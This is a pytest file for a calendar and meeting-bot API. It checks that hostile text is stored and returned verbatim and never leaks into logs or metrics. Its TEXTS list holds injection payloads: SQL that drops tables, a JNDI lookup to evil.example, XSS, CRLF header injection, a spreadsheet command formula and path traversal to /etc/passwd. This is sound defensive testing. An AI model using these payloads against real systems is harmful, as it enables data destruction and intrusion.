"""Attempts through every text that is stored and shown again: to SQL, HTML, logs, headers, JSON."""

import json
import logging
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import msgspec
import pytest

from meetbot_calendar.telemetry import scrub
from tests.attacks.scene import EVE, Scene

TEXTS = [
    "'; drop table events; --", '"; delete from tenants; --', "\\'; select pg_sleep(10); --",
    "%s %(x)s {0} {x} ${jndi:ldap://evil.example/x} {{7*7}} <%= 7*7 %> #{7*7}",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "line\r\nX-Evil: 1\r\n\r\n<html>", 'a\nb {"level": "error", "event": "forged"}',
    "\u202egnp.exe", "\u0000".replace("\u0000", "\u2400"), "a\u2028\u2029b", "\U0001f4a9" * 50,
    "=cmd|' /C calc'!A0", "../../../etc/passwd", "a" * 190, "__proto__", "constructor",
    "\x1b[31mred\x1b[0m\x07", "null", "true", "-1", "1e999", "[object Object]",
]  # fmt: skip

text = pytest.mark.parametrize("text", TEXTS)


@text
async def test_a_text_comes_back_to_the_letter_and_does_nothing_on_its_way(
    scene: Scene, text: str
) -> None:
    door, person = scene.mallory.tenant, f"person {text}"[:250]
    counts = [
        await scene.mallory.stage.look(f"select count(*) from {t}")  # noqa: S608
        for t in ("events", "bots")
    ]
    attributes = {text[:60]: text, "list": [text, {"deep": text}]}
    link = {"customer_user_id": person, "attributes": attributes}
    assert (await door.post("/v1/calendar/connect/google", link)).status_code == 201
    found = await door.get(f"/v1/calendar/users?customer_user_id={quote(person, safe='')}")
    (user,) = found.json()["results"]
    rules = {
        "default": "skip",
        "rules": [{"name": text, "action": "record", "when": {"in": [text, {"var": "title"}]}}],
    }
    saved = await door.put(f"/v1/calendar/users/{user['id']}/rules", rules)
    hook = {"url": "https://mallory.example/", "events": ["*"], "description": text}
    endpoint = (await door.post("/v1/webhook-endpoints", hook)).json()
    key = (await door.post("/v1/api-keys", {"name": text})).json()
    await door.delete(f"/v1/webhook-endpoints/{endpoint['id']}")

    assert (user["customer_user_id"], user["attributes"]) == (person, attributes)
    assert saved.json()["rules"][0]["name"] == text
    assert (endpoint["description"], key["name"]) == (text, text)
    assert counts == [
        await scene.mallory.stage.look(f"select count(*) from {t}")  # noqa: S608
        for t in ("events", "bots")
    ]


@text
async def test_a_text_in_a_query_is_compared_and_not_executed(scene: Scene, text: str) -> None:
    for name in (
        "customer_user_id",
        "calendar_id",
        "account_id",
        "endpoint_id",
        "bot_id",
        "status",
    ):
        for path in ("/v1/bots", "/v1/calendar/users", "/v1/webhook-deliveries"):
            answer = await scene.mallory.tenant.get(f"{path}?{name}={quote(text, safe='')}")
            assert answer.status_code in (200, 400, 404), (path, name)


async def test_a_meetings_texts_reach_the_tenant_as_text_and_nothing_else(scene: Scene) -> None:
    stage = scene.mallory.stage
    for number, text in enumerate(TEXTS):
        stage.hold_meeting(EVE, text, timedelta(hours=3 + number))
    await stage.settle()
    listed: list[dict[str, Any]] = []
    cursor = ""
    while True:
        path = f"/v1/calendar/users/{scene.mallory.user_id}/events?limit=100{cursor}"
        page = await scene.mallory.tenant.get(path)
        assert page.headers["content-type"] == "application/json"
        listed += page.json()["results"]
        if page.json()["next"] is None:
            break
        cursor = f"&cursor={page.json()['next']}"

    titles = {row["title"] for row in listed}
    assert [text for text in TEXTS if text.strip() not in titles] == []


@text
def test_a_text_in_a_log_line_stays_within_its_line(text: str) -> None:
    line = msgspec.json.encode({"event": "x", "value": scrub(text)})

    assert b"\n" not in line
    assert b"\r" not in line
    assert json.loads(line)["value"] == scrub(text)


async def test_a_log_tells_of_a_request_without_what_stood_in_it(
    scene: Scene, caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
) -> None:
    caplog.set_level(logging.DEBUG)
    word = "Zirkonium7341"
    await scene.mallory.tenant.get(f"/v1/bots?status={word}")
    await scene.mallory.tenant.get(f"/v1/bots/{word}", Cookie=word, Referer=word, User_Agent=word)
    await scene.mallory.tenant.post("/v1/api-keys", {word: word})

    printed = capsys.readouterr()
    assert word not in caplog.text + printed.out + printed.err
    assert "/v1/bots/{bot_id}" in caplog.text + printed.out + printed.err


async def test_a_counter_has_no_series_of_a_strangers_making(scene: Scene) -> None:
    word = "Zirkonium7342"
    await scene.stranger.get(f"/{word}")
    await scene.stranger.get(f"/v1/bots/{word}")
    await scene.stranger.ask(word, "/v1/bots")

    metrics = (await scene.stranger.get("/metrics")).text
    assert "meetbot_http_requests_total" in metrics
    assert word not in metrics
    assert scene.acme.tenant_id not in metrics
